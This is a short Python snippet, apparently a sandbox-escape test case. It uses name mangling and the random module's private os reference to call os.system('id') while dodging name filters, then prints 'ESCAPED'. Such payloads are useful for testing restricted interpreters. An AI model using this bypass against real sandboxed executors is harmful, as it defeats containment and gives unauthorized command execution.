# class: name mangling: __system inside class P is _P__system at run time
import random
class P:
    def run(self):
        return self.__system("id")
p = P()
p.__dict__["_P" + "__system"] = random._os.system
print("ESCAPED", p.run())
